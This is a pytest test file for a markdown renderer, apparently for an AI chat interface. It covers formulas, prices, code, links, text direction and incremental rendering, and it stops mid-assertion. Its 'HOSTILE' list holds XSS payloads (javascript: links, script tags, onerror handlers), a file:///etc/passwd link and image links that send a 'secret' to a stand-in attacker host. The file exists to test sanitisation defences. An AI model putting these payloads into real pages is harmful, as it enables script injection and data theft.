import re
import subprocess
import sys
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from unittest.mock import patch

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from playwright.async_api import Page, expect

from gateway_ui.drawing import markdown
from gateway_ui.drawing.markdown import Growing, mathml, render, segments
from gateway_ui.drawing.markdown import growing as growing_module
from gateway_ui.drawing.markdown.colours import _COLOURS, COLOURED_CHARACTERS
from tests.browser import SCREENSHOTS, wait_for_port
from tests.ports import free_port

ASSETS = Path(markdown.__file__).parent.with_name("assets")
STYLE = (ASSETS / "markdown.css").read_text()


class Reader(HTMLParser):
    """What a piece of HTML says to a person, and which elements it has."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.words: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self._label = False
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._label = ("class", "tw-language") in attrs

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002 - HTMLParser's signature
        self._label = False

    def handle_data(self, data: str) -> None:
        if not self._label:
            self.words.append(data)


def text_of(source: str) -> str:
    return "".join(Reader(source).words)


def formulas(text: str) -> list[str]:
    """The sources of what is drawn as formulas."""
    return re.findall(r'data-tw-math="[^"]*">([^<]*)<', render(text))


# ---- what is left alone ------------------------------------------------------------------------------------------

PROSE = [
    "It costs $5 today and $7 tomorrow",
    "$5 and 10$",
    "US$5-$7",
    "$HOME/bin:$PATH",
    ":smile: :red[x] :material/home:",
    "a -- b --- c -> d ... (c) (tm) +-",
    "\"quotes\" and 'quotes'",
    "www.example.org and me@example.org and ftp://a.example and xhttp://a.example and https:// and http://a:b@c.example",
    "[x] done",
    "price: $5, or $ 6 $",
    "$5 or x = 6$",
    "a$x$ b",
    "$x$1 and $y$z",
    "$the distance$",
    "$ab$ and $und$",
    "kill $$ and $$ now",
    "vec![1, 2]",
]


@pytest.mark.parametrize("text", PROSE)
def test_prose_stays_as_it_is(text: str) -> None:
    assert text_of(render(text)).strip() == text
    assert {tag for tag, _ in Reader(render(text)).elements} == {"p"}


@pytest.mark.parametrize("text", PROSE)
def test_prose_stays_as_it_is_in_a_table(text: str) -> None:
    drawn = render(f"| a | b |\n|---|---|\n| {text} | x |")
    assert f"<td>{re.sub('<[^>]*>', '', render(text)).strip()}</td>" in drawn
    assert "tw-math" not in drawn


WORDS = [
    "word", "Größe", "日本語", "$5", "$", "$$", "5$", "$n$", "$x_1", "x^2$", ":smile:", ":red[x]",
    ":material/home:", "--",
    "---", "->", "<-", "=>", "...", "(c)", "'", '"', "[x]", "(y)", "{z}", "a/b", "%", "@", "|", "1.", "+",
    "vec![1,", "2];",
    "http://a.example", "(https://a.example/b_c_d?e=f&g=(h)).",
    "https://a.example/?", "$HOME/bin:$PATH", "US$5-$7", "~", "^", "=", "a=1", "🎉",
]  # fmt: skip


AMOUNTS = st.sampled_from(["5", "7", "10", "1,000", "2,000.50", "3.99", "5-10", "5\u201310", "5k", "20%"])
AFTER_AMOUNTS = st.sampled_from([", ", "; ", ": ", ". ", " net, ", " an hour, ", "/kg, ", " each; ", ",\n"])
REST = st.sampled_from(["b = {}", "{}", "x + y = {}", "or {}", "and {}", "b is {}"])


@given(AMOUNTS, AFTER_AMOUNTS, REST, AMOUNTS, st.sampled_from(["", "a = ", "So ", "x (", "1,000-"]))
def test_prices_are_no_formula(one: str, then: str, rest: str, other: str, before: str) -> None:
    text = f"{before}${one}{then}{rest.format(other)}$ and more"
    assert formulas(text) == []
    assert text_of(render(text)) == text + "\n"


def test_a_range_of_prices_is_no_formula() -> None:
    assert formulas("$1,000-$2,000, 5$ und 7$") == []
    assert formulas("a = $5, b = 7$") == []


TERMS = st.sampled_from(["x", "5x", "a_1", "x^2", "\\alpha", "2", "3.5", "(x, y)", "f(x)", "n!", "2(x+1)", "1,000"])
SIGNS = st.sampled_from([" = ", " + ", "=", "-", " < ", " \\cdot ", "/", " \\le "])


@given(st.lists(st.tuples(TERMS, SIGNS), max_size=4), TERMS)
def test_true_maths_is_a_formula(begin: list[tuple[str, str]], last: str) -> None:
    formula = "$" + "".join(term + sign for term, sign in begin) + last + "$"
    assert [text_of(one) for one in formulas(f"so {formula}, and")] == [formula]


@given(st.lists(st.lists(st.sampled_from(WORDS), max_size=8).map(lambda words: " ".join(["So", *words])), min_size=1))
def test_text_without_marks_of_markdown_reads_the_same(lines: list[str]) -> None:
    text = "\n".join(lines)
    assert text_of(render(text)) == text + "\n"
    paragraphs = "\n\n".join(lines)
    assert text_of(render(paragraphs)) == text + "\n"


def plain() -> MarkdownIt:
    """CommonMark with tables and strikethrough, and nothing of ours but which links there are."""
    parser = MarkdownIt("commonmark", {"html": False, "maxNesting": 100}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: re.match("https?://.|mailto:.", url) is not None  # type: ignore[method-assign]
    return parser


MARKS = st.sampled_from(
    ["*", "**", "_", "~~", "`", "```", "#", "##", ">", "-", "+", "1.", "|", "|-|", "[", "]", "(http://a.example)", "<",
     "<http://a.example>", "<b>", "&amp;", "&lt;", "a", "word", " ", " ", "\n", "\n\n", "    ", ":", "$5", "--",
     "=", "!"]
)  # fmt: skip


@given(st.lists(MARKS, max_size=40).map("".join))
def test_text_with_marks_reads_as_plain_commonmark_does(text: str) -> None:
    assume("![" not in text)
    assert text_of(render(text)).split() == text_of(plain().render(text)).split()


# ---- formulas ----------------------------------------------------------------------------------------------------

MATHS = [
    "$n$", "$x_{max} = 3$", "$ABC$", "$5x+3=2$", r"$\sin x$", "$ax^2 + bx + c = 0$", r"\(x\)", r"\(a_b + c_d\)",
    r"\[x\]",
    "$$x$$", r"$x \text{ if it is positive}$", r"$\mathrm{speed} = 3$", r"$\operatorname{lcm}(a, b)$", r"\(distance\)",
    r"$a < b$", "$10^{-3}$", r"$5\%$", "$x = 5$", "$5x$", "$a$", "$5$", "$1,000$", "$1, 2, 3$", "$5/2$",
    "$2 x$", "$5 + x$", "$2-2$",
]  # fmt: skip


@pytest.mark.parametrize("formula", MATHS)
@pytest.mark.parametrize("around", ["{}", "so {}, and", "**{}**", "*a {}*", "# {}", "- {}", "> {}", "|a|\n|-|\n|{}|"])
def test_a_formula_is_one_wherever_it_stands(formula: str, around: str) -> None:
    assert [text_of(one) for one in formulas(around.format(formula))] == [formula]


@pytest.mark.parametrize("formula", MATHS)
@pytest.mark.parametrize("around", ["`{}`", "```\n{}\n```", "    {}", "`` ` {} ``"])
def test_code_holds_no_formula(formula: str, around: str) -> None:
    assert formulas(around.format(formula)) == []
    assert formula in text_of(render(around.format(formula)))


def test_a_formula_stands_beside_letters_of_a_script_without_spaces() -> None:
    assert formulas("変数$n$は") == ["$n$"]


def test_two_formulas_of_a_line_are_two() -> None:
    assert formulas(r"$a$ and $b$, \(c\) and \(d\), $$e$$ and $$f$$") == [
        "$a$",
        "$b$",
        r"\(c\)",
        r"\(d\)",
        "$$e$$",
        "$$f$$",
    ]


@pytest.mark.parametrize(
    "text", ["\\[\nx\n\\]", "$$\nx\n$$", "$$x\n$$", "So:\n\\[\nx\n\\]", "So:\n\\[\nx\n\\].",
    "- a\n\n  $$\n  x\n  $$", "> $$\n> x\n> $$"]
)  # fmt: skip
def test_a_formula_of_several_lines_is_a_block(text: str) -> None:
    assert (
        len(re.findall('<div class="tw-formula" tabindex="0"><span class="tw-math tw-math-block"', render(text))) == 1
    )


ENVIRONMENTS = [name + star for name in ("equation", "align", "gather", "alignat", "multline") for star in ("", "*")]


@pytest.mark.parametrize("name", ENVIRONMENTS)
@pytest.mark.parametrize("text", ["{}", "So:\n{}", "So:\n\n{}\n\nAnd", "- a\n\n  {}", "> {}", "{}\n- a"])
def test_an_environment_that_begins_a_line_is_a_formula(name: str, text: str) -> None:
    columns = "{2}" if name.startswith("alignat") else ""
    formula = f"\\begin{{{name}}}{columns}a &= b \\\\ c &= d\\end{{{name}}}"
    assert [text_of(one) for one in formulas(text.format(formula))] == [formula]


def test_an_environment_of_several_lines_is_one_formula_with_what_follows_it() -> None:
    text = "So:\n\\begin{align}\n  a &= b \\\\\n  c &= d\n\\end{align}, and so on.\n\nNext."
    assert len(formulas(text)) == 1
    assert text_of(render(text)).endswith("\n, and so on.\nNext.\n")
    drawn = render("\\begin{align}\na\n\\end{align}.")
    assert "</span>.</div>" in drawn


@pytest.mark.parametrize(
    "text", ["`\\begin{align}x\\end{align}`", "```\n\\begin{align}x\\end{align}\n```", "\\begin{document}x"]
)
def test_what_is_no_environment_of_maths_stays_as_it_is(text: str) -> None:
    assert formulas(text) == []
    assert text_of(render(text)).strip() == text.strip("`\n")


def test_an_open_environment_is_shown_as_its_source() -> None:
    text = "\\begin{align}\na &= b"
    assert text_of(render(text)) == text + "\n"
    # Nothing else is seen of it before.
    for end in range(1, len("\\begin{align}")):
        assert text_of(Growing().update(text[:end])[1]) == ""


def test_text_after_a_block_of_maths_is_kept() -> None:
    assert text_of(render("$$\nx\n$$ and so on")).endswith("and so on\n")
    assert "</span>.</div>" in render("\\[\nx\n\\].")


def test_a_formula_that_begins_at_the_end_of_a_line_ends_in_the_paragraph() -> None:
    assert formulas("Answer: $$\nx\n$$\nand more") == ["$$\nx\n$$"]


@pytest.mark.parametrize("mark", ["$$", "\\["])
def test_an_open_block_of_maths_is_shown_as_its_source(mark: str) -> None:
    assert text_of(render(f"{mark}\nx^2 +\n\nNext")) == f"{mark}\nx^2 +\nNext\n"
    assert '<div class="tw-code"><pre tabindex="0"><code>' in render(f"{mark}\nx^2 +")


@pytest.mark.parametrize(
    "latex", [r"\unknown x", "x^", r"\frac", "{", r"\newcommand{\a}{\a}\a", r"\href{javascript:alert(1)}{x}",
    "{" * 1000]
)  # fmt: skip
def test_what_cannot_be_converted_is_shown_as_its_source(latex: str) -> None:
    drawn = render(rf"\({latex}\)")
    assert drawn.startswith('<p><code class="tw-source">')
    assert text_of(drawn) == f"\\({latex}\\)\n"


@pytest.mark.parametrize(
    "latex",
    [r"\frac{a}{b}", r"\sqrt[3]{x}", r"\begin{aligned}a&=b\\c&=d\end{aligned}", r"\begin{align}a&=b\end{align}",
     r"a\\b",
     r"\begin{cases}1&x>0\\0&\text{else}\end{cases}", r"\begin{pmatrix}1&2\\3&4\end{pmatrix}", r"\boxed{x}",
     r"\mathbb{R}",
     r"\left(\frac{1}{2}\right]", r"\sum_{i=1}^n i \implies \vec v", r"\begin{gathered}a\\b\end{gathered}",
     r"\dfrac12"],
)  # fmt: skip
def test_what_models_write_can_be_converted(latex: str) -> None:
    assert mathml._mathml(latex, "block").startswith('<math display="block">')


def test_mathml_holds_only_what_is_known_to_be_harmless() -> None:
    hostile = r"\text{<img src=x onerror=alert(1)> &lt;script&gt;} \color{red}{x}"
    for tag, attributes in Reader(mathml._mathml(hostile, "inline")).elements:
        assert tag in mathml._MATHS_ELEMENTS
        assert set(attributes) <= {*mathml._MATHS_ATTRIBUTES, "class"}


def test_the_script_knows_the_same_elements_as_the_module() -> None:
    script = (ASSETS / "markdown.js").read_text()
    elements, attributes = re.findall(r"new Set\((.+?)\n?\s*\.split", script, re.DOTALL)
    assert {*"".join(re.findall('"(.*?)"', elements)).split()} == mathml._MATHS_ELEMENTS
    assert {*"".join(re.findall('"(.*?)"', attributes)).split()} == {*mathml._MATHS_ATTRIBUTES, "class"}


# ---- code --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["python", "rust", "Rust", "js", "nonesuch", "", "html", "diff", "console"])
@given(code=st.text(st.sampled_from("ab (){}[]!<>&\"'#$\\\t\n\ufeff\u200d=:;.,0123日🎉"), max_size=60))
def test_code_reads_as_it_was_written(language: str, code: str) -> None:
    assume("```" not in code)
    drawn = render(f"````{language}\n{code}\n````")
    assert text_of(drawn).removesuffix("\n") == code + "\n"


def test_code_has_its_language_and_colours() -> None:
    drawn = render("```python\nimport os\n```")
    assert '<div class="tw-language">python</div><pre tabindex="0"><code><span class="tw-k">import</span> os\n' in drawn


def test_only_the_beginning_of_long_code_is_coloured() -> None:
    code = "x = 1\n" * 10_000
    drawn = render(f"```python\n{code}```")
    assert text_of(drawn) == code + "\n"
    assert 2 * COLOURED_CHARACTERS < len(drawn) < 5 * len(code)
    assert not drawn.rstrip().endswith("</span>\n</code></pre></div>")


# ---- what a model may try ----------------------------------------------------------------------------------------

HOSTILE = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>)",
    "[x](vbscript:x)", "[x](/relative)", "[x](//host/path)", "[x](file:///etc/passwd)", "<javascript:alert(1)>",
    "<ftp://a.b>",
    "[x]: javascript:alert(1)\n\n[x]", "![x](http://attacker/?q=secret)", "![x](javascript:alert(1))",
    "[![x](http://attacker/?q=secret)](http://a.b)", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
    "</code></pre><script>", '```"><img src=x>\ncode\n```', "```<b>\ncode\n```", "<svg onload=x>", "<style>*{}</style>",
    "| <img src=x> |\n|-|\n| <b> |", '[x](http://a.b "\\"><img src=x>")', '[x](http://a.b/"onclick=x)',
    "&lt;script&gt;", 'https://a.example/"onclick=x', "https://a.example/'><img src=x>", "javascript://a.example",
    "https://a.example/&quot;onclick=x", "http:///attacker", "https://user:secret@attacker.example/",
    r"\(\text{<img src=x>}\)", r"$\style{background:url(//x)}{y}$", '<span data-tw-math="&lt;math&gt;">', "# <h1>",
]  # fmt: skip
ALLOWED = {
    "p", "a", "code", "pre", "div", "span", "strong", "em", "s", "ul", "ol", "li", "blockquote", "hr", "br",
    "h3", "h4", "h5",
    "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTRIBUTES = {
    "href",
    "title",
    "target",
    "rel",
    "class",
    "tabindex",
    "role",
    "aria-label",
    "data-tw-math",
    "start",
    "dir",
}


def check_harmless(drawn: str) -> None:
    for tag, attributes in Reader(drawn).elements:
        assert tag in ALLOWED
        assert set(attributes) <= ATTRIBUTES
        if tag == "a":
            assert re.match("https?://[^/]|mailto:", str(attributes["href"]))
            assert (attributes["target"], attributes["rel"]) == ("_blank", "noopener noreferrer")


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_model_may_try_is_harmless(text: str) -> None:
    check_harmless(render(text))
    for cut in range(len(text)):
        check_harmless(Growing().update(text[:cut])[1])


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "\n", "\n\n", "`", "**", "[", "](", ")", "<", ">", '"', "- ", "> "]), max_size=12
    )
)
def test_mixed_attempts_are_harmless(parts: list[str]) -> None:
    check_harmless(render("".join(parts)))


ADDRESSES = [
    ("see https://a.example/x_y_z?a=b&c=d.", "https://a.example/x_y_z?a=b&c=d"),
    ("(https://a.example/(x))", "https://a.example/(x)"),
    ("**https://a.example/**", "https://a.example/"),
    ("_HTTPS://A.example_ x", "https://A.example"),
    ("http://localhost:8501, it says", "http://localhost:8501"),
    ("詳しくは https://a.example/。次に", "https://a.example/"),
    ("https://a.example/&lt; x", "https://a.example/"),
    (r"https://a.example/b\_c?d=e&amp;f=g", "https://a.example/b_c?d=e&f=g"),
    ('"https://a.example/"', "https://a.example/"),
    ("- https://a.example/#b\n", "https://a.example/#b"),
]


@pytest.mark.parametrize(("text", "address"), ADDRESSES)
def test_a_bare_address_is_a_link_without_the_sentence_around_it(text: str, address: str) -> None:
    drawn = render(text)
    check_harmless(drawn)
    assert [one["href"] for tag, one in Reader(drawn).elements if tag == "a"] == [address]
    assert text_of(drawn).strip() == text_of(plain().render(text)).strip()


@pytest.mark.parametrize(
    "text",
    [
        "`https://a.example`",
        "    https://a.example",
        "```\nhttps://a.example\n```",
        "![https://a.example](http://b.example)",
    ],
)
def test_an_address_in_code_or_in_an_images_words_is_no_link(text: str) -> None:
    assert "a" not in {tag for tag, _ in Reader(render(text)).elements}


def test_an_address_that_is_a_links_words_leads_where_the_link_does() -> None:
    links = [
        one["href"] for tag, one in Reader(render("[https://a.example](https://b.example)")).elements if tag == "a"
    ]
    assert links == ["https://b.example"]


def test_an_image_is_its_words_and_address() -> None:
    assert render("![a *b*](http://attacker/?q=1&r)") == (
        '<p><span class="tw-image">a b (http://attacker/?q=1&amp;r)</span></p>\n'
    )


def test_a_link_that_leads_nowhere_safe_shows_its_address() -> None:
    assert text_of(render("[x](javascript:alert(1))")) == "[x](javascript:alert(1))\n"


@pytest.mark.parametrize(("mark", "tag"), [("#", "h3"), ("##", "h4"), ("###", "h5"), ("####", "h6"), ("######", "h6")])
def test_a_heading_stands_below_that_of_the_page(mark: str, tag: str) -> None:
    assert render(f"{mark} x") == f"<{tag}>x</{tag}>\n"


def test_a_table_scrolls_by_itself() -> None:
    drawn = render("|a|b|\n|:-:|-:|\n|1|2|")
    assert drawn.startswith('<div class="tw-table" tabindex="0" role="region" aria-label="Table"><table>')
    assert '<th class="tw-center">a</th>\n<th class="tw-right">b</th>' in drawn


ALEF, ENGLISH = "\u05d0\u05d1", "word"


@pytest.mark.parametrize(
    ("text", "directions"),
    [
        (ALEF, [("p", "auto")]),
        (f"{ENGLISH}\n\n{ALEF}", [("p", "auto"), ("p", "auto")]),
        (f"# 1. {ALEF}", [("h3", "auto")]),
        (f"- *{ALEF}*\n- {ENGLISH}", [("ul", "rtl"), ("li", "rtl"), ("li", "ltr")]),
        (f"1. {ENGLISH}\n   - {ALEF}", [("ol", "ltr"), ("li", "ltr"), ("ul", "rtl"), ("li", "rtl")]),
        (f"- {ALEF}\n\n  {ENGLISH}", [("ul", "rtl"), ("li", "rtl"), ("p", "auto"), ("p", "auto")]),
        (f"> \u0645\u0631\n\n> - 1\n\n{ALEF}", [
            ("blockquote", "rtl"), ("p", "auto"), ("blockquote", "auto"), ("ul", "auto"), ("li", "auto"), ("p", "auto"),
        ]),
        (f"|{ALEF}|a|\n|-|-|\n|1|{ENGLISH}|", [
            ("div", "rtl"), ("th", "auto"), ("th", "auto"), ("td", "auto"), ("td", "auto"),
        ]),
        (f"```\n{ALEF}\n```", []),
        (f"{ENGLISH}\n\n- {ENGLISH}", []),
    ],
)  # fmt: skip
def test_each_block_runs_in_its_own_direction(text: str, directions: list[tuple[str, str]]) -> None:
    drawn = render(text)
    check_harmless(drawn)
    assert [(tag, one["dir"]) for tag, one in Reader(drawn).elements if "dir" in one] == directions


SIZES = {
    "quotes": "> " * 1000 + "x", "lists": "- " * 1000 + "x", "both": "> - " * 1000 + "x",
    "brackets": "[" * 1000 + "x" + "]" * 1000,
    "links": "[" * 1000 + "x" + "](http://a.b)" * 1000, "images": "![" * 1000, "stars": "*a **b" * 5000,
    "line": "word " * 200_000,
    "dollars": "$x " * 100_000, "double": "$$ " * 100_000, "parentheses": "\\(" * 50_000, "squares": "\\[x\n" * 20_000,
    "braces": "\\(" + "{" * 3000 + "\\)", "angles": "<a" * 50_000, "ticks": "".join("`" * n + " " for n in range(400)),
    "addresses": "http://a.b" * 20_000, "schemes": "http://" * 20_000, "ends": "http://a.b/" + ")" * 50_000,
    "entities": "http://a.b/" + "&amp;" * 10_000, "table": "|a" * 1000 + "\n" + "|-" * 1000 + "\n|b",
    "code": "```python\n" + "x = '" * 100_000, "open": "[a](http://" * 10_000,
}  # fmt: skip


@pytest.mark.parametrize("name", SIZES)
def test_large_and_deep_text_is_drawn_in_bounded_time(name: str) -> None:
    began = time.process_time()
    check_harmless(render(SIZES[name]))
    Growing().update(SIZES[name])
    assert time.process_time() - began < 10  # each takes less than two on a slow machine


def test_what_is_nested_too_deep_is_still_shown() -> None:
    assert "the end" in text_of(render("> " * 1000 + "the end"))
    assert "the end" in text_of(render("- " * 1000 + "the end"))


# ---- growing -----------------------------------------------------------------------------------------------------

FRAGMENTS = st.sampled_from(
    ["word ", "So it is. ", "\n", "\n", "\n\n", "\n\n", "- ", "  - ", "1. ", "> ", "# ", "```\n", "```python\n",
     "~~~\n", "    ",
     "---\n", "===\n", "-", "=", "|a|b|\n", "|-|-|\n", "| x", "$$", "$$\n", "\\[", "\\]", "\\]\n", "\\(x",
     "\\)", "$x$", "$5 ",
     "**", "*", "`", "[a](http://a.b)", "[a](http", "https://a.b/c_d", "![", "<b>", "\r\n", "\r", "\t", "\0", "x^2"]
)  # fmt: skip


_ENDS_OF_BLOCKS = {
    "table": ("</tbody>\n</table></div>\n", "</thead>\n</table></div>\n"),
    "code": ("</code></pre></div>\n",),
    "ul": ("</ul>\n",),
    "ol": ("</ol>\n",),
}


def merged(drawn: list[str]) -> str:
    """What the browser makes of segments: those that go on with a block are joined to it."""
    whole = ""
    for segment in drawn:
        more = re.match(
            r'<div class="tw-(table|code) tw-more"[^>]*>(?:<table>\n|<pre tabindex="0"><code>)'
            r'|<(ul|ol)[^>]*class="tw-more"[^>]*>\n',
            segment,
        )
        assert ("tw-more" in segment) == (more is not None)
        if more is None:
            whole += segment
            continue
        end = next(end for end in _ENDS_OF_BLOCKS[more[1] or more[2]] if whole.endswith(end))
        rest = segment[more.end() :]
        if end.startswith("</thead>"):
            end = end.removeprefix("</thead>\n")
        elif end.startswith("</tbody>"):
            rest = rest.removeprefix("<tbody>\n")
        whole = whole.removesuffix(end) + rest
    return whole


def shown(drawn: str) -> str:
    """Without what a cut may change: how close a list's items stand, and colours beside a cut."""
    drawn = re.sub('<span class="tw-.">|</span>', "", drawn)
    return re.sub(r"\s*</?p>\s*|\s*(?=<)|(?<=>)\s*", "", drawn)


def grown(text: str, cuts: list[int]) -> list[str]:
    growing, closed = Growing(), []
    for cut in sorted({min(cut, len(text)) for cut in cuts}):
        closed += growing.update(text[:cut])[0]
    new, tail = growing.update(text, ended=True)
    return [*closed, *new, tail] if tail else [*closed, *new]


@given(st.lists(FRAGMENTS, max_size=60).map("".join), st.lists(st.integers(0, 400), max_size=30), st.integers(1, 60))
def test_what_has_grown_is_what_is_drawn_at_once(text: str, cuts: list[int], size: int) -> None:
    with patch.object(growing_module, "SEGMENT_CHARACTERS", size):
        assert shown(merged(grown(text, cuts))) == shown(render(text))
        assert grown(text, cuts) == segments(text)
        assert grown(text, [*range(len(text))]) == segments(text)


@pytest.mark.parametrize(
    "end",
    [
        "\n#tag and more",
        "\na|b\n-|-x",
        "\n***bold***",
        "\n1.x",
        "\n>",
        "\n\n-x",
        '\n\n[a]: http://a.example\n"a\ntitle"\n\nb',
    ],
)
def test_a_block_is_not_closed_by_what_turns_out_to_go_on_with_it(end: str) -> None:
    text = "word " * 500 + end
    assert grown(text, [*range(2400, len(text))]) == segments(text)
    assert "".join(segments(text)) == render(text)


def long_answer(words: int) -> str:
    paragraphs = (
        ("word " * 60).strip(),
        "## Heading",
        "- one\n- two $x$\n- three",
        "```python\nx = 1\n```",
        "|a|b|\n|-|-|\n|1|2|",
    )
    return "\n\n".join(paragraphs[number % 5] for number in range(words // 15))


LONG_BLOCKS = {
    "bullets": ("", "- word *word* word $x$ word word word\n"),
    "loose": ("", "* word word word\n\n  more word\n\n"),
    "numbers": ("", "1. word word word word word\n   - inner\n   - inner\n"),
    "table": ("|a|b|\n|-|-:|\n", "| word word | word `word` |\n"),
    "code": ("```python\n", "def word(x): return x  # word\n"),
    "unknown code": ("~~~~ nonesuch\n", "word word word word word\n"),
    "text in code": ("```python\n", 'x = """word\n``` word\n"""\n'),
    "html": ("```html\n<script>\n", "let word = 1 + 2 // word\n"),
}


def long_block(name: str, rows: int = 1500) -> str:
    head, row = LONG_BLOCKS[name]
    return f"Before:\n\n{head}{row * rows}"


@pytest.mark.parametrize("name", LONG_BLOCKS)
def test_an_update_of_one_long_block_costs_the_same_whatever_its_length(name: str) -> None:
    growing, largest, sent = Growing(), 0, 0
    text = long_block(name)
    for end in range(0, len(text), 500):
        before = growing.parsed
        sent = max(sent, len(growing.update(text[:end])[1]))
        largest = max(largest, growing.parsed - before)
    # Code whose colours go on from line to line is cut later.
    assert largest < 12 * markdown.SEGMENT_CHARACTERS
    assert sent < 30_000


@pytest.mark.parametrize("name", LONG_BLOCKS)
def test_a_long_block_grows_into_what_is_drawn_at_once(name: str) -> None:
    text = long_block(name, 300) + {"code": "```\n", "html": "```\n"}.get(name, "") + "\nAfter."
    drawn = grown(text, [*range(0, len(text), 29)])
    assert drawn == segments(text)
    assert len(drawn) > 2
    assert shown(merged(drawn)) == shown(render(text))
    if name == "loose":
        assert merged(drawn).count("<p>") == render(text).count("<p>")
    if name in ("code", "text in code"):
        assert re.findall('class="tw-."', merged(drawn)) == re.findall('class="tw-."', render(text))


BLOCKS = st.sampled_from(
    ["- a\n", "- b *b*\n", "  - c\n", "  more\n", "\n", "* d\n", "1. e\n", "7. f\n", "   g\n", "-\n", "- |a|b|\n",
     "|-|-|\n", "|a|b|\n", "| c | `d` |\n", "| e\n", "```\n", "```python\n", "~~~\n", "x = '''\n", "# y\n", "/* z\n",
     "    code\n", "---\n", "> q\n", "- ```\n", "word\n", "\\[\n", "\\]\n", " - h\n", "   - i\n", "\t- j\n",
     "- [ ] k\n", "-     l\n", "\r\n", "1) m\n"]
)  # fmt: skip


@given(st.lists(BLOCKS, max_size=40).map("".join), st.integers(1, 30))
def test_blocks_that_are_cut_anywhere_show_the_same(text: str, size: int) -> None:
    with patch.object(growing_module, "SEGMENT_CHARACTERS", size), patch.object(growing_module, "_LOOKED_AT", 1):
        drawn = grown(text, [*range(len(text))])
        assert drawn == segments(text)
        assert shown(merged(drawn)) == shown(render(text))


def test_a_long_answer_has_some_dozens_of_segments() -> None:
    text = long_answer(20_000)
    drawn = segments(text)
    assert len(text) / (2 * markdown.SEGMENT_CHARACTERS) < len(drawn) <= len(text) / markdown.SEGMENT_CHARACTERS + 1
    assert "".join(drawn) == render(text)


@pytest.mark.parametrize("words", [2_000, 8_000])
def test_an_update_costs_what_is_open_and_not_what_is_closed(words: int) -> None:
    text = long_answer(words)
    growing, updates, largest = Growing(), 0, 0
    for end in range(0, len(text), 50):
        before = growing.parsed
        growing.update(text[:end])
        updates += 1
        largest = max(largest, growing.parsed - before)
    # The tail is parsed for its blocks and to be drawn; closing a segment draws that, too.
    assert largest < 4 * (markdown.SEGMENT_CHARACTERS + 500)
    assert growing.parsed < updates * 2 * markdown.SEGMENT_CHARACTERS


def test_a_link_defined_above_is_known_below_and_one_defined_below_when_the_answer_has_ended() -> None:
    filler = "word " * 1000
    above = f"[a]: http://a.example\n\n{filler}\n\nSee [a].\n\n{filler}\n\nSee [a]."
    assert "".join(grown(above, [3000, 6000])) == render(above) == "".join(segments(above))
    below = f"See [a].\n\n{filler}\n\n{filler}\n\n[a]: http://a.example"
    assert "<a " not in "".join(grown(below, [*range(0, len(below), 100)]))
    assert "<a " in "".join(segments(below))


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("So:\n-", "So:\n"), ("So:\n--", "So:\n"), ("So:\n- one", "So:\n\none\n\n"), ("So\n=", "So\n"),
        ("So\n``", "So\n"),
        ("So\n\n| a | b", "So\n"), ("So\n\n| a | b |\n", "So\n"), ("So\n\n| a | b |\n|--", "So\n"), ("So\n\n1", "So\n"),
        ("see [here](http://exa", "see here\n"), ("so \\(x^2", "so \\(x^2\n"), ("**bold", "**bold\n"), ("so $x",
        "so $x\n"),
        ("`code", "`code\n"), ("costs $", "costs $\n"),
    ],
)  # fmt: skip
def test_what_cannot_be_told_yet_is_not_drawn_as_something_else(text: str, drawn: str) -> None:
    assert text_of(Growing().update(text)[1]) == drawn


DEFINITIONS = [
    "[a]: http://example.org/x", "[a]: <http://example.org/x>", "[a]: http://example.org/x 'A title'",
    '[a]: http://example.org/x "A (title)"', "[a]:\nhttp://example.org/x", '[a]: http://example.org/x\n"A\ntitle"',
    "[a]: http://example.org/x (t)\n[b c]: http://example.org/y 't'",
]  # fmt: skip


@pytest.mark.parametrize("definition", DEFINITIONS)
@pytest.mark.parametrize("around", ["{}\n\nNext [a]", "See [a].\n\n{}\n\nNext", "> {}\n\nNext", "- x\n\n  {}\n\nNext"])
def test_a_links_definition_is_never_seen_as_text(definition: str, around: str) -> None:
    indent = {">": "> ", "-": "  "}.get(around[0], "")
    text = around.format(definition.replace("\n", "\n" + indent))
    start = around.index("{}")
    before = text_of(render(text[:start])).split()
    linked = [word.strip("[].") for word in before]
    defined = text.index("\n\nNext")
    for end in range(start, defined + 2):
        said = text_of(Growing().update(text[:end])[1]).split()
        assert [word.strip("[].") for word in said] == linked, text[:end]
    assert "http" not in text_of(render(text))


@pytest.mark.parametrize(
    ("text", "drawn"),
    [("[x]", ""), ("[x] done", "[x] done\n"), ("- [ ] task", "\n[ ] task\n\n"), ("[x](http://a.b) so", "x so\n"),
     ("[a]: no definition", "[a]: no definition\n"), ('Word\n"quoted', 'Word\n"quoted\n'),
     ("[section]\nx", "[section]\nx\n"),
     ("Word\n[a]: b", "Word\n[a]: b\n")],
)  # fmt: skip
def test_what_is_no_definition_is_drawn(text: str, drawn: str) -> None:
    assert text_of(Growing().update(text)[1]) == drawn


@pytest.mark.parametrize("code", ["```python\nprint(", "```python\nprint(1)\n``", "- a\n  ```python\n  print("])
def test_an_open_fence_is_drawn_as_code(code: str) -> None:
    assert (
        '<div class="tw-language">python</div><pre tabindex="0"><code><span class="tw-t">print</span>('
        in (Growing().update(code)[1])
    )


def test_a_table_appears_as_one_and_grows_by_letters() -> None:
    head = "| a | b |\n|---|---|\n"
    for end in range(len(head)):
        assert Growing().update(head[:end])[1] == ""
    assert "<td>on" in Growing().update(head + "| on")[1]


@pytest.mark.parametrize("mark", ["$$", "\\["])
def test_a_growing_block_of_maths_is_its_source_until_it_ends(mark: str) -> None:
    end = {"$$": "$$", "\\[": "\\]"}[mark]
    assert Growing().update(f"{mark}\nx^")[1].startswith('<div class="tw-code"><pre tabindex="0"><code>')
    assert (
